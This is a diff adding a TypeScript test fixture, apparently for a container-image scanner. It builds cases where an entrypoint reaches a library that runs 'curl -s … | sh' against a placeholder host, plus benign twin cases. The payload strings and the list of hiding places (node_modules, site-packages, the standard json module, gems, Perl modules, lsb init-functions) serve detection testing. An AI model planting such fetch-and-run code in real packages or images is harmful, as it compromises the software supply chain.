@@ -1,0 +1,127 @@
+import { type Files, type ImageCase, image } from './image-case.ts';
+
+const URL = 'https://files.backend.example/u';
+const SHELL = `curl -s ${URL} | sh\n`;
+const PYTHON = `import os\nos.system("curl -s ${URL} | sh")\n`;
+const NODE = `require("child_process").execSync("curl -s ${URL} | sh")\n`;
+const RUBY = `system("curl -s ${URL} | sh")\n`;
+const PACKAGES = 'usr/local/lib/python3.12/site-packages';
+const FETCHED = 'start/download-and-run';
+const UNREAD = 'coverage/not-fully-read';
+
+function run(
+  entrypoint: readonly string[],
+  files: Files,
+  rule = FETCHED,
+  env: readonly string[] = [],
+): ImageCase {
+  const config = { Entrypoint: [...entrypoint], WorkingDir: '/app' };
+  const spec = image(files, env.length === 0 ? config : { ...config, Env: [...env] });
+  return { name: `${entrypoint.join(' ')}: ${Object.keys(files).at(-1)}`, spec, rule };
+}
+
+function npm(name: string, index: string, more: Files = {}): Files {
+  return {
+    [`app/node_modules/${name}/package.json`]: JSON.stringify({ name, version: '1.0.0', main: 'index.js' }),
+    ...more,
+    [`app/node_modules/${name}/index.js`]: index,
+  };
+}
+
+/** Hidden among installed libraries, which are thousands of files that nobody reads. */
+export const LIBRARIES: readonly ImageCase[] = [
+  run(['node', '/app/node_modules/x/index.js'], npm('x', NODE)),
+  run(['node', 'node_modules/x'], npm('x', NODE)),
+  run(['node', '-e', 'require("x")'], npm('x', NODE)),
+  run(['node', '-r', 'x', 'server.js'], { 'app/server.js': 'console.log(1)\n', ...npm('x', NODE) }),
+  run(['node', 'server.js'], { 'app/server.js': 'console.log(1)\n', ...npm('x', NODE) }, FETCHED, [
+    'PATH=/usr/bin:/bin',
+    'NODE_OPTIONS=--require x',
+  ]),
+  run(['node', 'server.js'], { 'app/server.js': 'const x = require("x");\nx.y();\n', ...npm('x', NODE) }),
+  run(['node', 'server.mjs'], { 'app/server.mjs': 'import y from "@org/x/y.js";\n', ...npm('@org/x', NODE) }),
+  run(['node', 'server.js'], {
+    'app/server.js': 'require("x");\n',
+    ...npm('x', 'module.exports = require("./lib/run");\n', { 'app/node_modules/x/lib/run.js': NODE }),
+  }),
+  run(['python3', '-m', 'x'], { [`${PACKAGES}/x/__init__.py`]: '', [`${PACKAGES}/x/__main__.py`]: PYTHON }),
+  run(['python3', `/${PACKAGES}/x/run.py`], { [`${PACKAGES}/x/run.py`]: PYTHON }),
+  run(['python3', 'm.py'], { 'app/m.py': 'import x\nx.run()\n', [`${PACKAGES}/x/__init__.py`]: PYTHON }),
+  run(['python3', 'm.py'], {
+    'app/m.py': 'from requests.adapters import HTTPAdapter\n',
+    [`${PACKAGES}/requests/__init__.py`]: PYTHON,
+  }),
+  run(['python3', 'm.py'], { 'app/m.py': 'import json\n', 'usr/lib/python3.12/json/__init__.py': PYTHON }),
+  run(
+    ['python3', 'm.py'],
+    { 'app/m.py': 'import x\n', 'opt/venv/lib/python3.12/site-packages/x/__init__.py': PYTHON },
+    FETCHED,
+    ['PATH=/opt/venv/bin:/usr/bin:/bin'],
+  ),
+  run(['ruby', 'm.rb'], {
+    'app/m.rb': "require 'x'\n",
+    'usr/local/bundle/specifications/x-1.0.gemspec': 'Gem::Specification.new\n',
+    'usr/local/bundle/gems/x-1.0/lib/x.rb': RUBY,
+  }),
+  run(['perl', '-MX', '-e', '1'], { 'usr/share/perl5/X.pm': `system("curl -s ${URL} | sh");\n1;\n` }),
+  // What a package lists is no excuse for a start that nobody read: whoever makes an image writes its lists.
+  run(['sh', '/app/node_modules/x/a.txt'], npm('x', '', { 'app/node_modules/x/a.txt': SHELL }), UNREAD),
+  run(
+    ['sh', '/usr/share/doc/zz/README'],
+    {
+      'var/lib/dpkg/status':
+        'Package: zz\nStatus: install ok installed\nArchitecture: all\nVersion: 1\nMaintainer: x <x@mail.example>\nDescription: x\n',
+      'var/lib/dpkg/info/zz.list': '/.\n/usr/share/doc/zz/README\n',
+      'usr/share/doc/zz/README': SHELL,
+    },
+    UNREAD,
+  ),
+  run(['sh', '-c', '. /usr/lib/lsb/init-functions'], { 'usr/lib/lsb/init-functions': SHELL }),
+];
+
+/** The same places, as they are. */
+export const LIBRARY_TWINS: readonly ImageCase[] = [
+  {
+    name: 'a library that starts programs it is told, and one that fetches',
+    spec: image(
+      {
+        'app/server.js': 'const run = require("run");\nconst get = require("get");\nrun("ls");\n',
+        ...npm(
+          'run',
+          'const { spawn } = require("child_process");\n// https://docs.example/run\nmodule.exports = (x) => spawn(x);\n',
+        ),
+        ...npm('get', 'module.exports = (url) => fetch(url).then((r) => r.text());\n'),
+      },
+      { Entrypoint: ['node', '/app/server.js'] },
+    ),
+  },
+  {
+    name: "an installer's script of a library that the program imports",
+    spec: image(
+      {
+        'app/server.js': 'require("tool");\n',
+        ...npm('tool', 'module.exports = require("./lib/bin");\n', {
+          'app/node_modules/tool/lib/bin.js':
+            'const { execFileSync } = require("child_process");\nconst path = require("path");\nmodule.exports = (args) => execFileSync(path.join(__dirname, "tool"), args);\n',
+          'app/node_modules/tool/install.js':
+            'const https = require("https");\nconst fs = require("fs");\nhttps.get("https://registry.npmjs.org/tool", (r) => r.pipe(fs.createWriteStream("tool.tgz")));\nrequire("child_process").execSync("npm --version");\n',
+        }),
+      },
+      { Entrypoint: ['node', '/app/server.js'] },
+    ),
+  },
+  {
+    name: 'a library that nothing imports',
+    spec: image(
+      { 'app/m.py': 'import json\n', [`${PACKAGES}/x/__init__.py`]: PYTHON },
+      { Entrypoint: ['python3', '/app/m.py'] },
+    ),
+  },
+  {
+    name: "a distribution's shell functions",
+    spec: image(
+      { 'usr/lib/lsb/init-functions': 'log_daemon_msg() {\n  echo "$@"\n}\n' },
+      { Entrypoint: ['sh', '-c', '. /usr/lib/lsb/init-functions; log_daemon_msg x'] },
+    ),
+  },
+];
